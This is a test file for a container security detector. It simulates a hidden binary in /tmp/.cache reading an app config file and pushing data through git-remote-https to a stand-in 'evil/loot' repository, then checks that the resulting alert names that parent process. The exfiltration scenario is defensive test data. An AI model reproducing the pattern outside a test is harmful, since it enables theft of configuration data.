/**
 * A git transport helper whose pushing parent was never seen (it started before the sensor, or its exec
 * was lost): the alert shows that parent as the events describe it, from a stand-in record.
 */
import { describe, expect, it } from 'vitest';
import { run, Scenario } from './builder.js';

describe('push by a helper whose parent is unknown', () => {
  it('names the parent from the helper events (binary, command line), not the helper', () => {
    const s = new Scenario({ source: 'tetragon' });
    const c = s.container({ namespace: 'prod', pod: 'api-7f9', name: 'api' });
    const sh = s.init(c);
    s.read(sh, '/app/config.yaml', 2048).wait(5_000);
    const helper = s.exec(c, '/usr/lib/git-core/git-remote-https', 'origin https://github.com/evil/loot.git', {
      parentBinary: '/tmp/.cache/sync',
      parentArgs: 'push origin main',
    });
    s.wait(20)
      .connect(helper, '140.82.112.3', 443, { cookie: '9' })
      .wait(10)
      .send(helper, '140.82.112.3', 443, 300_000, { cookie: '9' })
      .wait(200)
      .exit(helper);
    const { alerts } = run(s.events);
    expect(alerts).toHaveLength(1);
    const a = alerts[0]!;
    expect(a.push.tool).toBe('git');
    expect(a.push.destination).toBe('github.com');
    expect(a.process.binary).toBe('/tmp/.cache/sync');
    expect(a.process.args).toBe('push origin main');
    expect(a.process.execId).toBeNull();
    expect(a.evidence.map((e) => e.kind)).toContain('push');
  });
});
